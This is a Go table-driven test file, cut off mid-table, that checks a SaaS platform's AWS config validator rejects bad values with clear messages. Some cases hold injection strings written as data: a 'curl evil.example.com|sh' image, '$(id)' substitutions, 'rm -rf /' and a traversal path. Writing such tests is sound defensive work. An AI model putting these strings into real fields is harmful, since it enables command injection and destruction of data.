package config_test

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/saas-platform/saas-platform/config"
)

const project = "saas-platform"

// values is a minimal valid dev stack plus the given overrides; an empty
// override deletes the key.
func values(overrides map[string]string) map[string]string {
	v := map[string]string{
		"aws:region":             "ap-northeast-1",
		"saas-platform:sizing":   "dev",
		"saas-platform:imageTag": "dev-abc1234",
	}
	for k, val := range overrides {
		if val == "" {
			delete(v, k)
			continue
		}
		v[k] = val
	}
	return v
}

func routed(name string, port, priority int) string {
	return `{"name":"` + name + `","port":` + strconv.Itoa(port) + `,"healthCheckPath":"/health","paths":["/` + name + `/*"],"priority":` + strconv.Itoa(priority) + `}`
}

func TestInvalidConfigIsRejectedWithTheKeyTheValueAndWhatIsAllowed(t *testing.T) {
	cases := []struct {
		name    string
		stack   string
		values  map[string]string
		key     string
		value   string
		allowed string
	}{
		{"an unknown sizing", "dev", map[string]string{"saas-platform:sizing": "large"},
			"saas-platform:sizing", "large", "dev, prod"},
		{"a missing sizing", "dev", map[string]string{"saas-platform:sizing": ""},
			"saas-platform:sizing", "", "is required"},
		{"a missing region", "dev", map[string]string{"aws:region": ""},
			"aws:region", "", "is required"},
		{"a region that is not one", "dev", map[string]string{"aws:region": "tokyo"},
			"aws:region", "tokyo", "AWS region such as ap-northeast-1"},
		{"a stack name AWS names cannot hold", "Prod_EU", nil,
			"stack name", "Prod_EU", "lowercase"},
		{"a key the program does not know", "dev", map[string]string{"saas-platform:tenant": `[]`},
			"saas-platform:tenant", "", "known settings are"},
		{"an unknown key inside a section", "dev", map[string]string{"saas-platform:network": `{"cidrr":"10.0.0.0/16"}`},
			"saas-platform:network.cidrr", "", "did you mean cidr?): keys allowed in saas-platform:network are cidr, availabilityZones"},
		{"a value of the wrong type", "dev", map[string]string{"saas-platform:network": `{"availabilityZones":"two"}`},
			"saas-platform:network.availabilityZones", "two", "must be a number, not text"},
		{"a public cidr", "dev", map[string]string{"saas-platform:network": `{"cidr":"8.8.0.0/16"}`},
			"saas-platform:network.cidr", "8.8.0.0/16", "private IPv4"},
		{"a cidr larger than /16", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.0.0.0/8"}`},
			"saas-platform:network.cidr", "10.0.0.0/8", "between /16 and /24"},
		{"a cidr smaller than /24", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.0.0.0/25"}`},
			"saas-platform:network.cidr", "10.0.0.0/25", "between /16 and /24"},
		{"an IPv6 cidr", "dev", map[string]string{"saas-platform:network": `{"cidr":"fd00::/16"}`},
			"saas-platform:network.cidr", "fd00::/16", "private IPv4"},
		{"a cidr with host bits", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.10.1.0/16"}`},
			"saas-platform:network.cidr", "10.10.1.0/16", "network address is 10.10.0.0/16"},
		{"a cidr too small for its zones", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.0.0.0/24","availabilityZones":3}`},
			"saas-platform:network.cidr", "10.0.0.0/24", "too small for 3 availability zones"},
		{"one availability zone", "dev", map[string]string{"saas-platform:network": `{"availabilityZones":1}`},
			"saas-platform:network.availabilityZones", "1", "between 2 and 6"},
		{"seven availability zones", "dev", map[string]string{"saas-platform:network": `{"availabilityZones":7}`},
			"saas-platform:network.availabilityZones", "7", "between 2 and 6"},
		{"an unknown NAT layout", "dev", map[string]string{"saas-platform:network": `{"natGateways":"multi"}`},
			"saas-platform:network.natGateways", "multi", "none, single, onePerAz, instance"},
		{"no NAT and no endpoints", "dev", map[string]string{"saas-platform:network": `{"natGateways":"none"}`},
			"saas-platform:network.natGateways", "none", "interfaceEndpoints: true"},
		{"backups turned off", "dev", map[string]string{"saas-platform:database": `{"backupRetentionDays":0}`},
			"saas-platform:database.backupRetentionDays", "0", "between 1 and 35"},
		{"an unknown instance class", "dev", map[string]string{"saas-platform:database": `{"instanceClass":"t3.micro"}`},
			"saas-platform:database.instanceClass", "t3.micro", "db.t4g.micro"},
		{"storage autoscaling below the allocation", "dev", map[string]string{"saas-platform:database": `{"allocatedStorage":100,"maxAllocatedStorage":50}`},
			"saas-platform:database.maxAllocatedStorage", "50", "more than allocatedStorage (100)"},
		{"a silo storage cap no plan can grow under", "dev", map[string]string{"saas-platform:siloSizing": `{"maxAllocatedStorage":20}`},
			"saas-platform:siloSizing.maxAllocatedStorage", "20", "more than the storage every silo plan starts with (enterprise: 20 GiB)"},
		{"a DR region that is not one", "dev", map[string]string{"saas-platform:dataProtection": `{"backupPlan":true,"drRegion":"oregon"}`},
			"saas-platform:dataProtection.drRegion", "oregon", "AWS region such as us-west-2"},
		{"a DR region that is the stack's own", "dev", map[string]string{"saas-platform:dataProtection": `{"backupPlan":true,"drRegion":"ap-northeast-1"}`},
			"saas-platform:dataProtection.drRegion", "ap-northeast-1", "stack's own region"},
		{"a DR region in another partition", "dev", map[string]string{"saas-platform:dataProtection": `{"backupPlan":true,"drRegion":"cn-north-1"}`},
			"saas-platform:dataProtection.drRegion", "cn-north-1", "another AWS partition"},
		{"a DR region without backups to copy", "dev", map[string]string{"saas-platform:dataProtection": `{"drRegion":"us-west-2"}`},
			"saas-platform:dataProtection.drRegion", "us-west-2", "needs dataProtection.backupPlan: true"},
		{"the prod preset's DR region for a stack already there", "prod", map[string]string{"saas-platform:sizing": "prod", "aws:region": "us-west-2",
			"saas-platform:domain": `{"certificateArn":"arn:aws:acm:us-west-2:123456789012:certificate/abc"}`},
			"saas-platform:dataProtection.drRegion", "us-west-2", "another region, such as us-east-2"},
		{"monthly backups kept shorter than weekly ones", "dev", map[string]string{"saas-platform:dataProtection": `{"monthlyRetentionDays":30}`},
			"saas-platform:dataProtection.monthlyRetentionDays", "30", "between 90"},
		{"monthly backups kept beyond AWS Backup's limit", "dev", map[string]string{"saas-platform:dataProtection": `{"monthlyRetentionDays":40000}`},
			"saas-platform:dataProtection.monthlyRetentionDays", "40000", "36500"},
		{"restore tests without backups", "dev", map[string]string{"saas-platform:dataProtection": `{"restoreTesting":true}`},
			"saas-platform:dataProtection.restoreTesting", "true", "needs dataProtection.backupPlan: true"},
		{"several shards without cluster mode", "dev", map[string]string{"saas-platform:cache": `{"mode":"nodes","clusterMode":false,"shards":3}`},
			"saas-platform:cache.shards", "3", "clusterMode"},
		{"cluster mode without replicas", "dev", map[string]string{"saas-platform:cache": `{"mode":"nodes","clusterMode":true,"shards":2,"replicasPerShard":0}`},
			"saas-platform:cache.replicasPerShard", "0", "at least 1"},
		{"a retention CloudWatch does not offer", "dev", map[string]string{"saas-platform:logs": `{"retentionDays":8}`},
			"saas-platform:logs.retentionDays", "8", "7, 14"},
		{"an alert address that is not an email", "dev", map[string]string{"saas-platform:alerts": `{"emails":["ops"]}`},
			"saas-platform:alerts.emails[0]", "ops", "email address"},
		{"prod without a certificate", "prod", map[string]string{"saas-platform:sizing": "prod"},
			"saas-platform:domain.certificateArn", "", "or domain.zone for the program to request one"},
		{"a certificate from another region", "dev", map[string]string{"saas-platform:domain": `{"certificateArn":"arn:aws:acm:us-east-1:123456789012:certificate/abc"}`},
			"saas-platform:domain.certificateArn", "arn:aws:acm:us-east-1:123456789012:certificate/abc", "stack's region, ap-northeast-1"},
		{"a tenant id with capitals", "dev", map[string]string{"saas-platform:tenants": `[{"id":"Acme","plan":"free"}]`},
			"saas-platform:tenants[0].id", "Acme", "lowercase letters, digits"},
		{"a tenant id with an underscore", "dev", map[string]string{"saas-platform:tenants": `[{"id":"acme_corp","plan":"free"}]`},
			"saas-platform:tenants[0].id", "acme_corp", "lowercase letters, digits"},
		{"a tenant id starting with a digit", "dev", map[string]string{"saas-platform:tenants": `[{"id":"1acme","plan":"free"}]`},
			"saas-platform:tenants[0].id", "1acme", "starting with a letter"},
		{"a tenant id ending with a hyphen", "dev", map[string]string{"saas-platform:tenants": `[{"id":"acme-","plan":"free"}]`},
			"saas-platform:tenants[0].id", "acme-", "not ending with a hyphen"},
		{"a tenant id too long for its instance identifier", "dev", map[string]string{"saas-platform:tenants": `[{"id":"a-very-long-tenant-name-that-does-not-fit-in-rds","plan":"free"}]`},
			"saas-platform:tenants[0].id", "a-very-long-tenant-name-that-does-not-fit-in-rds", "at most 45 fit"},
		{"the tenant id saas-admin", "dev", map[string]string{"saas-platform:tenants": `[{"id":"saas-admin","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "saas-admin", "master user"},
		{"the tenant id public", "dev", map[string]string{"saas-platform:tenants": `[{"id":"public","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "public", "PostgreSQL reserves"},
		{"the tenant id none", "dev", map[string]string{"saas-platform:tenants": `[{"id":"none","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "none", "PostgreSQL reserves"},
		{"the tenant id pg-stats", "dev", map[string]string{"saas-platform:tenants": `[{"id":"pg-stats","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "pg-stats", "starting with pg_"},
		{"the tenant id rds-tools", "dev", map[string]string{"saas-platform:tenants": `[{"id":"rds-tools","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "rds-tools", "RDS names its own"},
		{"the tenant id template1", "dev", map[string]string{"saas-platform:tenants": `[{"id":"template1","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "template1", "every PostgreSQL instance already has"},
		{"the tenant id postgres", "dev", map[string]string{"saas-platform:tenants": `[{"id":"postgres","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "postgres", "every PostgreSQL instance already has"},
		{"the tenant id current-user", "dev", map[string]string{"saas-platform:tenants": `[{"id":"current-user","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "current-user", "PostgreSQL reserves"},
		{"the tenant id platform", "dev", map[string]string{"saas-platform:tenants": `[{"id":"platform","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "platform", "shared instance's own database"},
		{"the tenant id shared", "dev", map[string]string{"saas-platform:tenants": `[{"id":"shared","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "shared", "shared PostgreSQL instance"},
		{"the tenant id select", "dev", map[string]string{"saas-platform:tenants": `[{"id":"select","plan":"premium"}]`},
			"saas-platform:tenants[0].id", "select", "PostgreSQL keyword"},
		{"an image with shell characters", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx;curl evil.example.com|sh"}]`},
			"saas-platform:services[0] (service api).image", `nginx;curl evil.example.com|sh`, "must be an image reference"},
		{"an image with an upper-case path", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"Nginx:1.27"}]`},
			"saas-platform:services[0] (service api).image", `Nginx:1.27`, "must be an image reference"},
		{"an image with a tag that is not one", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx:$(id)"}]`},
			"saas-platform:services[0] (service api).image", `nginx:$(id)`, "must be an image reference"},
		{"a health check path with a shell command on an internal service", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/health;reboot"}]`},
			"saas-platform:services[0] (service api).healthCheckPath", `/health;reboot`, "URL path starting with /"},
		{"a health check path with a command substitution", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/health$(id)","paths":["/api/*"],"priority":5}]`},
			"saas-platform:services[0] (service api).healthCheckPath", `/health$(id)`, "URL path starting with /"},
		{"a health check path with a pipe in its query", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/health?a=1|sh"}]`},
			"saas-platform:services[0] (service api).healthCheckPath", `/health?a=1|sh`, "optional ?query"},
		{"a health check path with a broken escape", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/health%zz"}]`},
			"saas-platform:services[0] (service api).healthCheckPath", `/health%zz`, "%XX escapes"},
		{"a routed service without a health check path", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","paths":["/api/*"],"priority":5}]`},
			"saas-platform:services[0] (service api).healthCheckPath", ``, "is required for a routed service"},
		{"a path pattern listed twice", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/h","paths":["/api/*","/api/*"],"priority":5}]`},
			"saas-platform:services[0] (service api).paths", `/api/*`, "listed twice"},
		{"a path pattern with shell characters", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","healthCheckPath":"/h","paths":["/api/$(id)"],"priority":5}]`},
			"saas-platform:services[0] (service api).paths", `/api/$(id)`, "path pattern starting with /"},
		{"an alert email with shell characters", "dev", map[string]string{"saas-platform:alerts": `{"emails":["ops@example.com;rm -rf /"]}`},
			"saas-platform:alerts.emails[0]", `ops@example.com;rm -rf /`, "must be an email address"},
		{"an alert email with a backquote", "dev", map[string]string{"saas-platform:alerts": `{"emails":["` + "`id`" + `@example.com"]}`},
			"saas-platform:alerts.emails[0]", "`id`@example.com", "must be an email address"},
		{"an alert email listed twice", "dev", map[string]string{"saas-platform:alerts": `{"emails":["ops@example.com","OPS@example.com"]}`},
			"saas-platform:alerts.emails[1]", `OPS@example.com`, "already listed as emails[0]"},
		{"a sender address with shell characters", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","access":[{"sendEmail":{"from":"a$(id)@example.com"}}]}]`},
			"saas-platform:services[0] (service api).access[0].sendEmail.from", `a$(id)@example.com`, "must be an email address"},
		{"a region that does not exist", "dev", map[string]string{"aws:region": "xx-nowhere-1"},
			"aws:region", `xx-nowhere-1`, "saas-platform:additionalRegions"},
		{"an additional region that is not a region name", "dev", map[string]string{"saas-platform:additionalRegions": `["mars"]`},
			"saas-platform:additionalRegions[0]", `mars`, "AWS region name"},
		{"a DR region that does not exist", "dev", map[string]string{"saas-platform:dataProtection": `{"backupPlan":true,"drRegion":"us-nowhere-9"}`},
			"saas-platform:dataProtection.drRegion", `us-nowhere-9`, "not an AWS region the pinned provider knows"},
		{"an unterminated reference", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","environment":{"REDIS":"${cache.endpoint"}}]`},
			"saas-platform:services[0] (service api).environment.REDIS", `${cache.endpoint`, "is not a reference"},
		{"a reference with shell syntax inside", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx","environment":{"X":"${$(id)}"}}]`},
			"saas-platform:services[0] (service api).environment.X", `${$(id)}`, "is not a reference"},
		{"a build dockerfile outside the repository", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"build":{"context":"services/api","dockerfile":"../../etc/Dockerfile"}}]`},
			"saas-platform:services[0] (service api).build.dockerfile", `../../etc/Dockerfile`, "goes up with .."},
		{"an absolute build context", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"build":{"context":"/etc"}}]`},
			"saas-platform:services[0] (service api).build.context", `/etc`, "is absolute"},
		{"a build context a tool would read as an option", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"build":{"context":"-f"}}]`},
			"saas-platform:services[0] (service api).build.context", `-f`, "starts with -"},
		{"an allowed range listed twice", "dev", map[string]string{"saas-platform:loadBalancer": `{"allowedCidrs":["203.0.113.0/24","203.0.113.0/24"]}`},
			"saas-platform:loadBalancer.allowedCidrs[1]", `203.0.113.0/24`, "already listed as allowedCidrs[0]"},
		{"a service named like a database alarm", "dev", map[string]string{"saas-platform:services": `[{"name":"db-acme","image":"nginx","port":3000}]`},
			"saas-platform:services[0].name", `db-acme`, "the program's own alarms use"},
		{"a service named like a cache alarm", "dev", map[string]string{"saas-platform:services": `[{"name":"redis-001","image":"nginx","port":3000}]`},
			"saas-platform:services[0].name", `redis-001`, "the program's own alarms use"},
		{"a policy statement id IAM refuses", "dev", map[string]string{"saas-platform:services": `[{"name":"api","image":"nginx","port":3000,"policyStatements":[{"sid":"send-mail","action":"sqs:SendMessage","resource":"arn:aws:sqs:ap-northeast-1:123456789012:q"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].sid", "send-mail", "letters and digits only"},
		{"a policy statement id used twice", "dev", map[string]string{"saas-platform:services": `[{"name":"api","image":"nginx","port":3000,"policyStatements":[{"sid":"A","action":"sqs:SendMessage","resource":"arn:aws:sqs:ap-northeast-1:123456789012:q"},{"sid":"A","action":"sqs:SendMessage","resource":"arn:aws:sqs:ap-northeast-1:123456789012:r"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[1].sid", "A", "already the sid of policyStatements[0]"},
		{"a default tag value AWS refuses", "dev", map[string]string{"aws:defaultTags": `{"tags":{"Cost Center":"a$(id)"}}`},
			`aws:defaultTags.tags."Cost Center"`, "a$(id)", "not a tag value AWS accepts"},
		{"a default tag key in the aws: namespace", "dev", map[string]string{"aws:defaultTags": `{"tags":{"aws:owner":"me"}}`},
			"aws:defaultTags.tags.aws:owner", "aws:owner", "not starting with aws:"},
		{"a list where a provider setting takes a string", "dev", map[string]string{"aws:profile": `[1]`},
			"aws:profile", "[1]", "must be a string, not a list"},
		{"an unknown plan", "dev", map[string]string{"saas-platform:tenants": `[{"id":"acme","plan":"gold"}]`},
			"saas-platform:tenants[0].plan", "gold", "basic, enterprise, free, premium"},
		{"a duplicate tenant id", "dev", map[string]string{"saas-platform:tenants": `[{"id":"acme","plan":"free"},{"id":"acme","plan":"basic"}]`},
			"saas-platform:tenants[1].id", "acme", "already used by saas-platform:tenants[0]"},
		{"a service name that is not DNS-safe", "dev", map[string]string{"saas-platform:services": `[{"name":"Api_1","port":3000}]`},
			"saas-platform:services[0].name", "Api_1", "DNS-safe"},
		{"a service name too long for a target group", "dev", map[string]string{"saas-platform:services": `[{"name":"a-service-name-far-too-long","port":3000}]`},
			"saas-platform:services[0].name", "a-service-name-far-too-long", "at most 24"},
		{"a duplicate service name", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000},{"name":"api","port":3001}]`},
			"saas-platform:services[1].name", "api", "must be unique"},
		{"a port of zero", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":0}]`},
			"saas-platform:services[0] (service api).port", "0", "between 1 and 65535"},
		{"a port above 65535", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":70000}]`},
			"saas-platform:services[0] (service api).port", "70000", "between 1 and 65535"},
		{"a memory size Fargate does not pair with the cpu", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"cpu":256,"memory":4096}]`},
			"saas-platform:services[0] (service api).memory", "4096", "512, 1024, 2048"},
		{"a cpu size Fargate does not offer", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"cpu":300}]`},
			"saas-platform:services[0] (service api).cpu", "300", "256, 512"},
		{"an unknown capacity", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"capacity":"cheap"}]`},
			"saas-platform:services[0] (service api).capacity", "cheap", "onDemand, spot, balanced"},
		{"more than five paths", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"healthCheckPath":"/h","priority":10,"paths":["/a","/b","/c","/d","/e","/f"]}]`},
			"saas-platform:services[0] (service api).paths", "/a,/b,/c,/d,/e,/f", "at most 5"},
		{"a duplicate listener priority", "dev", map[string]string{"saas-platform:services": `[` + routed("api", 3000, 200) + `,` + routed("web", 3001, 200) + `]`},
			"saas-platform:services[1] (service web).priority", "200", "already used by service api"},
		{"a priority of zero", "dev", map[string]string{"saas-platform:services": `[` + routed("api", 3000, 0) + `]`},
			"saas-platform:services[0] (service api).priority", "0", "between 1 and 50000"},
		{"a priority above 50000", "dev", map[string]string{"saas-platform:services": `[` + routed("api", 3000, 50001) + `]`},
			"saas-platform:services[0] (service api).priority", "50001", "between 1 and 50000"},
		{"a routed service without a health check", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"paths":["/api/*"],"priority":200}]`},
			"saas-platform:services[0] (service api).healthCheckPath", "", "required for a routed service"},
		{"a desired count outside min and max", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"desiredCount":5,"minCount":1,"maxCount":3}]`},
			"saas-platform:services[0] (service api).desiredCount", "5", "between minCount (1) and maxCount (3)"},
		{"a minimum above the maximum", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"desiredCount":2,"minCount":4,"maxCount":3}]`},
			"saas-platform:services[0] (service api).minCount", "4..3", "minCount <= maxCount"},
		{"ECS Exec on a read-only root filesystem", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"executeCommand":true}]`},
			"saas-platform:services[0] (service api).executeCommand", "true", "readOnlyRootFilesystem: false"},
		{"a schedule EventBridge cannot read", "dev", map[string]string{"saas-platform:services": `[{"name":"update","schedule":"every 15 minutes"}]`},
			"saas-platform:services[0] (service update).schedule", "every 15 minutes", "cron("},
		{"a service without any image", "dev", map[string]string{"saas-platform:imageTag": "", "saas-platform:services": `[{"name":"api","port":3000}]`},
			"saas-platform:services[0] (service api).image", ``, "is required: set image"},
		{"an image and an imageTag together", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"image":"nginx:1","imageTag":"v2"}]`},
			"saas-platform:services[0] (service api).imageTag", `v2`, "cannot be set with image"},
		{"an image tag Docker refuses", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"imageTag":"-v2"}]`},
			"saas-platform:services[0] (service api).imageTag", `-v2`, "must be a Docker tag"},
		{"an unknown architecture", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"architecture":"arm"}]`},
			"saas-platform:services[0] (service api).architecture", `arm`, "x86_64 or arm64"},
		{"an unknown metrics mode", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"metrics":"prometheus"}]`},
			"saas-platform:services[0] (service api).metrics", `prometheus`, "must be statsd"},
		{"a stop timeout Fargate does not allow", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"stopTimeout":121}]`},
			"saas-platform:services[0] (service api).stopTimeout", `121`, "between 2 and 120"},
		{"a deregistration delay above an hour", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"healthCheckPath":"/h","paths":["/a/*"],"priority":5,"deregistrationDelay":3601}]`},
			"saas-platform:services[0] (service api).deregistrationDelay", `3601`, "between 0 and 3600"},
		{"a deregistration delay on an internal service", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"deregistrationDelay":60}]`},
			"saas-platform:services[0] (service api).deregistrationDelay", `60`, "needs paths"},
		{"a reference the platform does not know", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"DB":"${database.password}"}}]`},
			"saas-platform:services[0] (service api).environment.DB", `${database.password}`, "one of cache.endpoint, cache.host, cache.port, database.host"},
		{"a reference to a scheduled task's URL", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"U":"${services.update.url}"}},{"name":"update","schedule":"rate(1 hour)"}]`},
			"saas-platform:services[0] (service api).environment.U", `${services.update.url}`, "services.api.url"},
		{"a variable the platform sets, with another value", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"PORT":"8080"}}]`},
			"saas-platform:services[0] (service api).environment.PORT", `8080`, "the platform sets itself"},
		{"a platform variable with another reference", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"REDIS_HOST":"${database.host}"}}]`},
			"saas-platform:services[0] (service api).environment.REDIS_HOST", `${database.host}`, "the platform's own value, ${cache.host}"},
		{"an environment name a shell cannot read", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"LOG-LEVEL":"info"}}]`},
			"saas-platform:services[0] (service api).environment.LOG-LEVEL", `LOG-LEVEL`, "environment variable name"},
		{"a secret with no source", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"JWT_SECRET":{}}}]`},
			"saas-platform:services[0] (service api).secrets.JWT_SECRET", ``, "exactly one of generate"},
		{"a secret with two sources", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"JWT_SECRET":{"generate":true,"parameter":"/x/y"}}}]`},
			"saas-platform:services[0] (service api).secrets.JWT_SECRET", ``, "exactly one of generate"},
		{"a parameter that is not a path", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"KEY":{"parameter":"weather-api-key"}}}]`},
			"saas-platform:services[0] (service api).secrets.KEY.parameter", `weather-api-key`, "SSM parameter path"},
		{"a secret that is not a Secrets Manager ARN", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"KEY":{"secret":"stripe"}}}]`},
			"saas-platform:services[0] (service api).secrets.KEY.secret", `stripe`, "Secrets Manager secret ARN"},
		{"a key without a secret", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"KEY":{"parameter":"/a/b","key":"k"}}}]`},
			"saas-platform:services[0] (service api).secrets.KEY.key", `k`, "goes with secret"},
		{"a secret that is also plain", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"KEY":"x"},"secrets":{"KEY":{"generate":true}}}]`},
			"saas-platform:services[0] (service api).secrets.KEY", `KEY`, "either plain or secret"},
		{"a secret named like a platform variable", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"REDIS_HOST":{"generate":true}}}]`},
			"saas-platform:services[0] (service api).secrets.REDIS_HOST", `REDIS_HOST`, "the platform sets itself"},
		{"a secret reference as a plain variable", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"DATABASE_URL":"${database.url}"}}]`},
			"saas-platform:services[0] (service api).environment.DATABASE_URL", `${database.url}`, "is a secret: inject it through secrets"},
		{"the cache's token inside a plain variable", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"REDIS_URL":"rediss://:${cache.authToken}@${cache.endpoint}"}}]`},
			"saas-platform:services[0] (service api).environment.REDIS_URL", `${cache.authToken}`, "is a secret"},
		{"a secret reference the platform does not hold", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"DB":"${database.host}"}}]`},
			"saas-platform:services[0] (service api).secrets.DB", `${database.host}`, "one of ${cache.authToken}, ${database.secret}, ${database.url}"},
		{"a secret written as plain text", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"DB":"postgres://u:p@h/db"}}]`},
			"saas-platform:services[0] (service api).secrets.DB", `postgres://u:p@h/db`, "reference to a secret the platform holds"},
		{"a secret reference inside other text", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"DB":"x${database.url}"}}]`},
			"saas-platform:services[0] (service api).secrets.DB", `x${database.url}`, "written alone"},
		{"an RDS master secret injected by ARN", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"secrets":{"DB":{"secret":"arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!db-1234-AbCdEf"}}}]`},
			"saas-platform:services[0] (service api).secrets.DB.secret", `arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!db-1234-AbCdEf`, "only the provisioner reads those"},
		{"a policy statement that could read a master secret", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":"secretsmanager:GetSecretValue","resource":"arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:r*"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].resource", `arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:r*`, "could match an RDS-managed master secret"},
		{"tenants' credentials asked to be written", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"access":[{"tenants":"write"}]}]`},
			"saas-platform:services[0] (service api).access[0].tenants", `write`, "must be read"},
		{"a migration without a command", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"migrate":{"command":[]}}]`},
			"saas-platform:services[0] (service api).migrate.command", ``, "is required"},
		{"a migration argument with a NUL", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"migrate":{"command":["npm","run\u0000; rm -rf /"]}}]`},
			"saas-platform:services[0] (service api).migrate.command[1]", "run\x00; rm -rf /", "NUL"},
		{"a migration longer than ECS's overrides take", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"migrate":{"command":["node","-e","` + strings.Repeat("x", 4100) + `"]}}]`},
			"saas-platform:services[0] (service api).migrate.command", "node -e " + strings.Repeat("x", 57-len("node -e ")) + "...", "at most 4096"},
		{"access to a bucket the stack does not own", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"access":[{"bucket":"events"}]}]`},
			"saas-platform:services[0] (service api).access[0].bucket", `events`, "not in saas-platform:buckets"},
		{"a bucket access mode S3 has no name for", "dev", map[string]string{"saas-platform:buckets": `[{"name":"events"}]`, "saas-platform:services": `[{"name":"api","port":3000,"access":[{"bucket":"events","mode":"all"}]}]`},
			"saas-platform:services[0] (service api).access[0].mode", `all`, "read, write or readWrite"},
		{"sending mail from something that is not an address", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"access":[{"sendEmail":{"from":"noreply"}}]}]`},
			"saas-platform:services[0] (service api).access[0].sendEmail.from", `noreply`, "email address"},
		{"a grant of two kinds at once", "dev", map[string]string{"saas-platform:buckets": `[{"name":"events"}]`, "saas-platform:services": `[{"name":"api","port":3000,"access":[{"bucket":"events","sendEmail":{"from":"a@b.co"}}]}]`},
			"saas-platform:services[0] (service api).access[0]", ``, "exactly one of sendEmail"},
		{"a policy statement granting every action", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":"*","resource":"arn:aws:sqs:ap-northeast-1:123456789012:q"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].action", `*`, "grants every action"},
